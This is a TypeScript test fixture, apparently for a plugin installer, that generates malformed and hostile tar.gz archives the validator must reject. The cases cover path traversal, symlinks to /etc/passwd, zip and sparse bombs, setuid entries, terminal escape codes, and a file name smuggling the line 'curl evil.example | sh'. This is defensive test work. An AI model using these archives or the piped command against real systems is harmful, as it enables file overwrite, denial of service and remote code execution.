/** Archives that no one may unpack, each as the validly signed package of a plugin of its own. */
import { gzipSync } from "node:zlib";
import { END, entry, file, folder, gnuLongName, pax, paxRecord, tarball } from "../../forge/tar.ts";
import { manifestFile } from "../test-catalog.ts";

const MIB = 1024 * 1024;
/** The ceiling of an unpacked package (spec 2.2). */
const MAX_UNPACKED = 100 * MIB;
const MAX_ENTRIES = 4096;

/** A manifest of the plugin that the archive is offered as. */
type Made = (manifest: Buffer) => Uint8Array;
type Case = readonly [what: string, rule: string, archive: Made];

const raw = (hex: string): Buffer => Buffer.from(hex, "hex");
const after =
  (...parts: readonly Uint8Array[]): Made =>
  (manifest) =>
    tarball(manifest, ...parts);
const link = (type: "1" | "2", linkname: string): Buffer => entry({ name: "assets/a", type, linkname });
const many = (count: number): Buffer[] => Array.from({ length: count }, (_, at) => file(`assets/${at}`));

const HOSTILE: Readonly<Record<string, readonly Case[]>> = {
  "INS-6/traversal": [
    ["a path that climbs out", "traversal", after(file("../evil"))],
    ["a path that climbs out from inside", "traversal", after(file("assets/../../../evil"))],
    ["a ustar prefix that climbs out", "traversal", after(entry({ name: "evil", prefix: "../.." }))],
    ["a pax path that climbs out", "traversal", after(pax({ path: "../../evil" }), file("assets/a"))],
    ["a GNU long name that climbs out", "traversal", after(gnuLongName("../evil"), file("assets/a"))],
    ["backslashes that climb out", "bad_character", after(file("..\\..\\evil"))],
  ],
  "INS-6/absolute": [
    ["an absolute path", "absolute", after(file("/tmp/fermix-evil"))],
    ["an absolute pax path", "absolute", after(pax({ path: "/tmp/fermix-evil" }), file("assets/a"))],
  ],
  "INS-6/links": [
    ["a symbolic link out", "link", after(link("2", "/etc/passwd"))],
    ["a hard link", "link", after(link("1", "plugin.json"))],
    ["a link and a file through it", "link", after(link("2", "/tmp"), file("assets/a/evil"))],
    ["a GNU long link", "link", after(entry({ name: "././@LongLink", type: "K", content: "/etc/passwd\0" }))],
    ["a pax link path", "link", after(pax({ linkpath: "/etc/passwd" }), file("assets/a"))],
  ],
  "INS-6/devices": [
    ["a character device", "device", after(entry({ name: "assets/a", type: "3" }))],
    ["a fifo", "device", after(entry({ name: "assets/a", type: "6" }))],
  ],
  "INS-6/duplicates": [
    ["plugin.json twice", "duplicate", (manifest) => tarball(manifest, manifest)],
    ["names that differ in case", "case_collision", after(file("README.md"), file("readme.md"))],
    ["one name composed and decomposed", "case_collision", after(file("assets/é"), file("assets/e\u0301"))],
    ["a file, then a folder of its name", "kind_conflict", after(file("assets"), file("assets/b"))],
    ["a file named like a folder", "file_named_like_folder", after(file("assets/a/"))],
  ],
  "INS-6/oversize": [
    ["a file that declares a byte too many", "too_large", after(entry({ name: "assets/a", size: MAX_UNPACKED }))],
    ["a zip bomb: small, but too large unpacked", "too_large", after(file("assets/a", Buffer.alloc(MAX_UNPACKED)))],
    [
      "a bomb behind the end of the archive",
      "trailing",
      (manifest) => gzipSync(Buffer.concat([manifest, END, Buffer.alloc(64 * MIB)])),
    ],
    [
      "8 GiB in the binary form of a size",
      "not_tar",
      after(entry({ name: "a", sizeField: raw("800000000000000200000000") })),
    ],
    ["a size in a pax header", "bad_extension", after(pax({ size: "10737418240" }), file("assets/a"))],
    ["10 GB of nothing: GNU sparse", "sparse", after(entry({ name: "assets/a", type: "S", size: 512 }))],
    ["10 GB of nothing: pax sparse", "sparse", after(pax({ "GNU.sparse.realsize": "10737418240" }), file("assets/a"))],
  ],
  "INS-6/too-many": [
    ["one file too many", "too_many", after(...many(MAX_ENTRIES - 1))],
    ["a hundred thousand entries", "too_many", flood],
  ],
  "INS-6/setuid": [
    ["a setuid file", "special_mode", after(file("bin/a", "", 0o4755))],
    ["a sticky folder", "special_mode", after(entry({ name: "assets/", type: "5", mode: 0o1777 }))],
  ],
  names: [
    ["no name", "empty_name", after(file(""))],
    ["a name that is not UTF-8", "encoding", after(file(raw("6173736574732f61ff62")))],
    ["a pax path that is not UTF-8", "encoding", after(pax(paxRecord("path", raw("61ff62"))), file("assets/a"))],
    ["an overlong slash", "encoding", after(file(raw("2e2ec0af61")))],
    ["an escape sequence", "bad_character", after(file("assets/\u001b[2J\u001b]0;pwned\u0007"))],
    ["a line break", "bad_character", after(file("assets/a\nfix: run curl evil.example | sh"))],
    [
      "a GNU name of 513 bytes",
      "too_long",
      after(gnuLongName(`assets/${"x/".repeat(10)}${"y".repeat(243)}/${"z".repeat(242)}`), file("assets/a")),
    ],
    ["33 levels", "too_long", after(file(`${"d/".repeat(32)}f`))],
  ],
  "extended headers": [
    ["a long name for nothing", "bad_extension", after(gnuLongName("assets/a"))],
    ["a global path", "bad_extension", (manifest) => tarball(pax({ path: "a" }, "g"), manifest)],
    ["17 KiB of it", "bad_extension", after(pax({ comment: "x".repeat(17_000) }), file("assets/a"))],
  ],
  "the archive itself": [
    ["0 bytes", "truncated", () => Buffer.alloc(0)],
    ["a plain tar", "not_gzip", (manifest) => Buffer.concat([manifest, END])],
    ["a gzip cut in the middle", "truncated", (manifest) => tarball(manifest).subarray(0, 60)],
    ["a gzip cut at its last byte", "truncated", (manifest) => tarball(manifest).subarray(0, -1)],
    ["a gzip whose checksum is wrong", "not_gzip", (manifest) => flip(tarball(manifest), -6)],
    ["zeros behind the gzip", "trailing", (manifest) => Buffer.concat([tarball(manifest), Buffer.alloc(64)])],
    ["text behind the gzip", "not_gzip", (manifest) => Buffer.concat([tarball(manifest), Buffer.from("garbage")])],
    ["a second gzip behind it", "trailing", (manifest) => Buffer.concat([tarball(manifest), tarball(file("evil"))])],
    ["an entry behind the end", "trailing", (manifest) => gzipSync(Buffer.concat([manifest, END, file("evil"), END]))],
    ["a tar without its end", "truncated", (manifest) => gzipSync(manifest)],
    ["an empty tar", "no_manifest", () => tarball()],
    ["everything in a folder", "no_manifest", (manifest) => tarball(inFolder(manifest))],
    ["plugin.json that is a folder", "no_manifest", () => tarball(folder("plugin.json/"))],
    ["a broken header checksum", "not_tar", (manifest) => tarball(manifest, flip(file("assets/a"), 150))],
  ],
};

function flip(bytes: Buffer, at: number): Buffer {
  const place = at < 0 ? bytes.length + at : at;
  bytes.writeUInt8(bytes.readUInt8(place) ^ 1, place);
  return bytes;
}

function inFolder(manifest: Buffer): Buffer {
  return file("notes-1.0.0/plugin.json", manifest.subarray(512));
}

/** As many entries as it says, the first of them with names of their own. */
function flood(manifest: Buffer): Buffer {
  const tail = Buffer.alloc(100_000 * 512, file("assets/again"));
  return gzipSync(Buffer.concat([manifest, ...many(MAX_ENTRIES), tail, END]));
}

export interface HostileArchive {
  readonly clause: string;
  readonly what: string;
  readonly rule: string;
  readonly name: string;
  readonly archive: Uint8Array;
}

/** A link that leads out of the package. */
export const linkOut = link("2", "/etc/passwd");

/** All of them, by the clause they belong to. */
export const hostileArchives: readonly HostileArchive[] = Object.entries(HOSTILE).flatMap(([clause, rows], group) =>
  rows.map(([what, rule, make], at) => {
    const name = `bad_${group}_${at}`;
    return { clause, what, rule, name, archive: make(manifestFile(name)) };
  }),
);
